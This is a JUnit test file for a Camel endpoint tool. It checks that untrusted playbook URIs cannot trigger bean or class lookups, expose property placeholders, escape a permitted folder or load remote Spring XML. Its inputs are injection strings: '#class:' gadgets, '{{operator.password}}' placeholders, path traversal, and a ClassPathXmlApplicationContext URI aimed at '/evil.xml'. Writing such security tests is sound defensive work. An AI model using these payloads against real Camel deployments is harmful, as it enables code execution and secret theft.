package io.noetl.camel.component.tool.camel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.AppenderBase;
import io.noetl.camel.execution.Outcome;
import io.noetl.camel.execution.ToolError;
import io.noetl.camel.testing.Calls;
import io.noetl.camel.testing.EchoServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.camel.impl.DefaultCamelContext;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/**
 * A playbook names an endpoint by literal values alone: no class, bean, expression or placeholder
 * of its text is looked up, whatever the operator has opened.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class CamelToolTest {
  private static final AtomicInteger MADE = new AtomicInteger();

  private final DefaultCamelContext context = new DefaultCamelContext();
  private final List<ILoggingEvent> logged = new CopyOnWriteArrayList<>();
  private CamelTool closed;
  private CamelTool open;
  private Path folder;

  /** Whoever has Camel make one has run code. */
  public static final class Canary {
    /** Leaves a trace. */
    public Canary() {
      MADE.incrementAndGet();
    }
  }

  @BeforeAll
  void start(@TempDir Path data) {
    folder = data;
    context.start();
    context.getPropertiesComponent().addOverrideProperty("operator.password", "resolved-canary");
    context.getRegistry().bind("canary", new Canary());
    MADE.set(0);
    closed = new CamelTool(context, Map.of());
    open =
        new CamelTool(
            context,
            Map.of(
                "log",
                new CamelScheme(
                    Set.of("audit.**"), Set.of("level", "marker", "showHeaders"), Set.of("x-id")),
                "file",
                new CamelScheme(Set.of(folder + "/*"), Set.of("fileName", "fileExist"), Set.of())));
    keep("audit.one", logged);
  }

  private static void keep(String name, List<ILoggingEvent> kept) {
    AppenderBase<ILoggingEvent> lines =
        new AppenderBase<>() {
          @Override
          protected void append(ILoggingEvent event) {
            kept.add(event);
          }
        };
    lines.start();
    ((Logger) LoggerFactory.getLogger(name)).addAppender(lines);
  }

  @AfterAll
  void stop() {
    open.close();
    context.stop();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "log:audit.one",
        "LOG:audit.one",
        "file:/tmp",
        "bean:canary",
        "class:io.noetl.camel.component.tool.camel.CamelToolTest$Canary",
        "language:simple:{{operator.password}}",
        "{{operator.password}}",
        "{{operator.password}}:x",
        "log",
        ":",
        "ref:canary",
        "http://127.0.0.1/"
      })
  void nothingIsOpenByDefault(String uri) {
    assertThat(error(closed, Map.of("uri", uri)))
        .satisfies(
            error -> {
              assertThat(error.code()).isEqualTo("CA0001");
              assertThat(error.message())
                  .contains("allowed: none")
                  .doesNotContain("resolved-canary");
            });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "log:audit.one?exchangeFormatter=#class:io.noetl.camel.component.tool.camel.CamelToolTest$Canary",
        "log:audit.one?exchangeFormatter=%23class:io.noetl.camel.component.tool.camel.CamelToolTest$Canary",
        "log:audit.one?ExchangeFormatter=#bean:canary",
        "log:audit.one?exchange-formatter=#bean:canary",
        "log:audit.one?marker=#class:io.noetl.camel.component.tool.camel.CamelToolTest$Canary",
        "log:audit.one?marker=#bean:canary",
        "log:audit.one?marker=#valueAs(java.lang.Integer):5",
        "log:audit.one?marker=#property:operator.password",
        "log:audit.one?marker={{operator.password}}",
        "log:audit.one?marker=%7B%7Boperator.password%7D%7D",
        "log:audit.one?marker=RAW({{operator.password}})",
        "log:audit.one?marker=RAW{{{operator.password}}}",
        "log:audit.one?marker=${bean:canary}",
        "log:audit.one?{{operator.password}}=1",
        "log:audit.one?marker=a&marker=b",
        "log:audit.one?marker",
        "log:audit.one?level={{operator.password}}",
        "log:audit.one?level=#bean:canary",
        "log:audit.one?showHeaders=#bean:canary",
        "log:audit.{{operator.password}}",
        "log:audit.{{?operator.password}}",
        "log:audit.%7B%7Boperator.password%7D%7D",
        "log:audit.one#x",
        "log://audit.${bean:canary}",
        "log:audit.$simple{bean:canary}",
        "log:audit.a?b?c=1",
        "log:other",
        "log:",
        "log",
        "{{operator.password}}:audit.one",
        "log:audit.a\u2028b",
        "log:audit.\u0000",
        "log:audit.a/../b"
      })
  void whatCamelWouldLookUpIsRefused(String uri) {
    assertThat(error(open, Map.of("uri", uri)))
        .satisfies(
            error -> {
              assertThat(error.code()).isIn("CA0001", "CA0003");
              assertThat(error.message()).doesNotContain("resolved-canary");
            });
    assertThat(MADE).hasValue(0);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{'scheme':'log','path':'audit.one','options':{'exchangeFormatter':'#bean:canary'}}",
        "{'scheme':'log','path':'audit.one','options':{'marker':['#bean:canary']}}",
        "{'scheme':'log','path':'audit.one','options':{'marker':{'a':1}}}",
        "{'scheme':'log','path':'audit.one','options':{'marker':null}}",
        "{'scheme':'log','path':'audit.one','options':{'level':'info'}}",
        "{'scheme':'log','path':'audit.one','options':{'showHeaders':'yes'}}",
        "{'scheme':'log','path':'audit.one?marker=x'}",
        "{'scheme':'log:audit.one','path':'x'}",
        "{'scheme':'log','path':'audit.one','uri':'log:audit.one'}",
        "{'scheme':'log','path':'audit.one','headers':{'CamelFileName':'x'}}",
        "{'scheme':'log','path':'audit.one','headers':{'y':'x'}}",
        "{'scheme':'log','path':'audit.one','options':'marker=x'}",
        "{'body':'x'}"
      })
  void whatIsNotOpenIsRefusedInTheNewSpellingToo(String config) {
    assertThat(open.call(Calls.json("camel", config))).isInstanceOf(Outcome.Failed.class);
    assertThat(MADE).hasValue(0);
  }

  @Test
  void whatIsOpenIsCalledWithTypedOptions() {
    logged.clear();

    Outcome one =
        open.call(
            Calls.json(
                "camel",
                "{'scheme':'log','path':'audit.one','options':{'level':'WARN','showHeaders':true},'headers':{'X-Id':7},'body':'hello'}"));
    Outcome other =
        open.call(Calls.json("camel", "{'uri':'log:audit.one?level=ERROR','body':'again'}"));

    assertThat(one).isEqualTo(new Outcome.Done("hello"));
    assertThat(other).isEqualTo(new Outcome.Done("again"));
    assertThat(logged)
        .extracting(event -> event.getLevel().toString())
        .containsExactly("WARN", "ERROR");
    assertThat(logged.getFirst().getFormattedMessage()).contains("X-Id=7", "hello");
  }

  /** Else a component that can answer would be waited for, and told again for want of an answer. */
  @Test
  void whoIsToldIsNotAskedForAnAnswer() throws Exception {
    List<ILoggingEvent> told = new CopyOnWriteArrayList<>();
    keep("audit.told", told);
    Map<String, Object> call =
        Map.of(
            "scheme",
            "log",
            "path",
            "audit.told",
            "options",
            Map.of("level", "WARN"),
            "body",
            "hello");

    assertThat(open.call(Calls.of("camel", call))).isEqualTo(new Outcome.Done("hello"));
    assertThat(open.telling().call(Calls.of("camel", call))).isEqualTo(new Outcome.Done(null));

    assertThat(told)
        .extracting(ILoggingEvent::getFormattedMessage)
        .satisfiesExactly(
            asked -> assertThat(asked).contains("ExchangePattern: InOut", "hello"),
            only -> assertThat(only).contains("ExchangePattern: InOnly", "hello"));
  }

  @Test
  void aFileGoesWhereTheOperatorSaysAndNowhereElse() throws Exception {
    Files.createDirectory(folder.resolve("out"));
    String path = folder + "/out";

    assertThat(
            open.call(
                Calls.of(
                    "camel",
                    Map.of(
                        "scheme",
                        "file",
                        "path",
                        path,
                        "options",
                        Map.of("fileName", "a.txt"),
                        "body",
                        "text"))))
        .isInstanceOf(Outcome.Done.class);
    assertThat(folder.resolve("out/a.txt")).hasContent("text");

    for (Map<String, Object> escape :
        List.<Map<String, Object>>of(
            Map.of("scheme", "file", "path", "/etc", "body", "x"),
            Map.of("scheme", "file", "path", path + "/../..", "body", "x"),
            Map.of(
                "scheme",
                "file",
                "path",
                path,
                "options",
                Map.of("fileName", "../b.txt"),
                "body",
                "x"),
            Map.of(
                "scheme",
                "file",
                "path",
                path,
                "options",
                Map.of("fileName", "${bean:canary}"),
                "body",
                "x"),
            Map.of(
                "scheme",
                "file",
                "path",
                path,
                "headers",
                Map.of("CamelFileName", "/tmp/x"),
                "body",
                "x"))) {
      assertThat(open.call(Calls.of("camel", escape))).isInstanceOf(Outcome.Failed.class);
    }
    assertThat(folder.resolve("b.txt")).doesNotExist();
    assertThat(MADE).hasValue(0);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "bean",
        "class",
        "language",
        "direct",
        "http",
        "step",
        "xslt",
        "no-such-one",
        "BEAN"
      })
  void whatReachesTheServerItselfCannotBeOpened(String scheme) {
    assertThatThrownBy(
            () ->
                new CamelTool(
                    context, Map.of(scheme, new CamelScheme(Set.of("**"), Set.of(), Set.of()))))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("noetl.tools.camel.");
  }

  @ParameterizedTest
  @ValueSource(strings = {"exchangeFormatter", "noSuchOption"})
  void anOptionThatNamesAnObjectCannotBeOpened(String option) {
    assertThatThrownBy(
            () ->
                new CamelTool(
                    context,
                    Map.of("log", new CamelScheme(Set.of("**"), Set.of(option), Set.of()))))
        .hasMessageContaining("noetl.tools.camel.log.options: " + option);
  }

  @Test
  void theErrorOfAComponentDoesNotTellHowItIsSetUp() {
    ToolError error =
        error(
            open,
            Map.of(
                "scheme",
                "file",
                "path",
                folder + "/f",
                "options",
                Map.of("fileExist", "Move"),
                "body",
                "x"));

    assertThat(error.code()).isEqualTo("CA0002");
    assertThat(error.message()).doesNotContain(folder.toString());
  }

  @Test
  void noProgramIsFetched() {
    try (EchoServer server = new EchoServer()) {
      String uri =
          "log:x?exchangeFormatter=#class:org.springframework.context.support.ClassPathXmlApplicationContext('"
              + server.url("/evil.xml")
              + "')";

      error(open, Map.of("uri", uri));
      error(closed, Map.of("uri", uri));

      assertThat(server.requests).isEmpty();
    }
  }

  private static ToolError error(CamelTool tool, Map<String, Object> config) {
    Outcome outcome = tool.call(Calls.of("camel", config));
    assertThat(outcome).isInstanceOf(Outcome.Failed.class);
    return ((Outcome.Failed) outcome).error();
  }
}
